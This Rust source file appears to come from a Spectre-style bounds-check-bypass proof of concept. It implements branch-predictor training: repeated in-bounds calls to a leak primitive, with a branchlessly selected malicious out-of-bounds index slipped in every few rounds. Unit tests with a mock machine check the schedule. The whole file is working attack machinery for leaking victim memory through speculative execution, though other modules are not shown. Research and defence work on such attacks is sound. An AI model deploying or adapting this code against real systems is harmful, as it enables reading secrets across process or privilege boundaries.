//! Predictor training.
//!
//! The leak primitive is called repeatedly with in-bounds indices so the
//! bounds check learns "taken", and every `period`-th call quietly passes the
//! malicious index instead. The choice between the two is made without a
//! branch, so the selection itself never trains (or confuses) the predictor.

use std::hint::black_box;

use crate::machine::Machine;
use crate::probe::ProbeArray;
use crate::victim::VictimMemory;

/// How the predictor is trained before each receive.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TrainingSchedule {
    /// Number of legitimate calls per malicious call.
    pub ratio: usize,
    /// Total number of calls into the leak primitive.
    pub rounds: usize,
    /// Busy-wait iterations before each call.
    pub delay_spins: usize,
}

impl TrainingSchedule {
    /// Largest ratio for which [`select_index`] produces a valid mask.
    pub const MAX_RATIO: usize = 0xffff;

    pub fn period(&self) -> usize { self.ratio + 1 }

    /// Number of rounds that use the malicious index.
    pub fn malicious_rounds(&self) -> usize {
        self.rounds.div_ceil(self.period())
    }
}

/// Returns `malicious` when `round % period == 0` and `legit` otherwise.
///
/// `period` must be in `1..=0x10000`.
#[inline(always)]
pub fn select_index(round: usize, period: usize, legit: usize, malicious: usize) -> usize {
    // All bits set iff round % period == 0
    let mask = (round % period).wrapping_sub(1) & !0xffff;
    let mask = mask | (mask >> 16);
    legit ^ (mask & (malicious ^ legit))
}

/// Run one training window. Round `j` passes the malicious index iff
/// `j % period == 0`, so the window both starts and (for the default
/// schedule) ends with a malicious call.
pub fn train_and_leak<M: Machine>(
    machine: &mut M,
    victim: &VictimMemory,
    probe: &ProbeArray,
    schedule: &TrainingSchedule,
    legit: usize,
    malicious: usize,
) {
    let period = black_box(schedule.period());
    for round in 0..schedule.rounds {
        machine.spin(schedule.delay_spins);
        let x = black_box(select_index(round, period, legit, malicious));
        machine.leak(victim, probe, x);
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use crate::probe::PartitionLayout;

    /// Records every index passed to the leak primitive.
    #[derive(Default)]
    struct Recorder {
        calls: Vec<usize>,
        spins: usize,
    }
    impl Machine for Recorder {
        fn flush(&mut self, _: &ProbeArray, _: u8) {}
        fn fence(&mut self) {}
        fn leak(&mut self, _: &VictimMemory, _: &ProbeArray, x: usize) {
            self.calls.push(x);
        }
        fn timed_read(&mut self, _: &ProbeArray, _: u8) -> u64 { 0 }
        fn spin(&mut self, spins: usize) { self.spins += spins; }
    }

    #[test]
    fn select_index_pattern() {
        for period in [1, 2, 6, 7, 0x100, 0x10000] {
            for round in 0..3 * period.min(0x200) {
                let x = select_index(round, period, 3, 0x1234_5678);
                if round % period == 0 {
                    assert_eq!(x, 0x1234_5678, "round {} period {}", round, period);
                } else {
                    assert_eq!(x, 3, "round {} period {}", round, period);
                }
            }
        }
        assert_eq!(select_index(0x10000, 0x10000, 1, 2), 2);
        assert_eq!(select_index(0xffff, 0x10000, 1, 2), 1);
    }

    #[test]
    fn default_schedule() {
        let probe = ProbeArray::new(PartitionLayout::new(64).unwrap()).unwrap();
        let victim = VictimMemory::new(&[1, 2, 3, 4, 5], b"s");
        let schedule = TrainingSchedule { ratio: 5, rounds: 31, delay_spins: 100 };
        let malicious = victim.malicious_index(0);

        let mut m = Recorder::default();
        train_and_leak(&mut m, &victim, &probe, &schedule, 2, malicious);

        assert_eq!(m.calls.len(), 31);
        assert_eq!(m.spins, 31 * 100);
        assert_eq!(schedule.malicious_rounds(), 6);
        assert_eq!(m.calls.iter().filter(|x| **x == malicious).count(), 6);
        assert_eq!(m.calls.last(), Some(&malicious));
        for (i, x) in m.calls.iter().enumerate() {
            let expect = if i % 6 == 0 { malicious } else { 2 };
            assert_eq!(*x, expect);
        }
    }
}
